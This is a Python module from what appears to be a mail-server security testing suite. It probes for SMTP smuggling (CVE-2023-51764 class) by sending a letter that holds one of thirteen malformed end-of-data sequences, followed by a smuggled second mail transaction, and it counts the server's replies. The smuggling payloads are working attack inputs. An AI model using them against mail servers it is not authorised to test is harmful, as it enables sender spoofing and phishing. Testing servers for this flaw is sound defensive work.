"""SMTP smuggling: ends of data that another server might read where this one does not, or the reverse (CVE-2023-51764 class).

One letter is sent by a true member; inside it stands a false end and a second transaction. A server that gives more replies than
one letter deserves has read the false end as true: it fell. A refusal of the whole letter, or one single reply, holds.
"""

from __future__ import annotations

from collections.abc import Callable

from mssante.attack.dialogue import NO_RECIPIENT, test_letter
from mssante.attack.identities import NO_GOOD
from mssante.attack.values import Arms, Attack, Outcome, Target
from mssante.attack.wire import EHLO_NAME, Wire, client_context

FALSE_ENDS = (
    (b"\n.\n", "LF.LF"), (b"\n.\r\n", "LF.CRLF"), (b"\r\n.\n", "CRLF.LF"), (b"\r.\r", "CR.CR"), (b"\r.\r\n", "CR.CRLF"),
    (b"\r\n.\r", "CRLF.CR"), (b"\r.\n", "CR.LF"), (b"\n.\r", "LF.CR"), (b"\r\n\x00.\r\n", "CRLF NUL.CRLF"),
    (b"\r\n.\x00\r\n", "CRLF.NUL CRLF"), (b"\r\n. \r\n", "CRLF. CRLF"), (b"\x0b.\x0b", "VT.VT"),
    (b"\xc2\x85.\xc2\x85", "NEL.NEL"),
)


def _smuggle(false_end: bytes) -> Callable[[Target, Arms], Outcome]:
    def play(target: Target, arms: Arms) -> Outcome:
        if arms.good is None:
            return Outcome.skipped(*NO_GOOD)
        if not target.recipient:
            return Outcome.skipped(*NO_RECIPIENT)
        sender = f"controle@{arms.good_domain}"
        with Wire(target) as wire:
            wire.greet()
            wire.start_tls(client_context(arms.good))
            for command in (f"EHLO {EHLO_NAME}", f"MAIL FROM:<{sender}>", f"RCPT TO:<{target.recipient}>", "DATA"):
                answer = wire.ask(command)
                if not answer.yes:
                    return Outcome.unclear(f"{command.partition(':')[0]}: {answer}")
            second = (f"MAIL FROM:<{sender}>\r\nRCPT TO:<{target.recipient}>\r\nDATA\r\n".encode()
                      + test_letter(sender, target.recipient, "passager") + b".\r\n")
            first = test_letter(sender, target.recipient, "contrebande")
            wire.send(first[:-2] + false_end + second)
            answers = wire.replies(0.5)
        if len(answers) > 1:
            return Outcome.fell(f"{len(answers)} replies: " + " | ".join(str(one) for one in answers[:3]))
        return Outcome.held(answers[0] if answers else "no reply")

    return play


ATTACKS = tuple(
    Attack(f"C-{rank:02}", f"fin de message fausse {name}", f"false end of data {name}", "RFC 5321 §4.1.1.4", _smuggle(octets))
    for rank, (octets, name) in enumerate(FALSE_ENDS, 1))
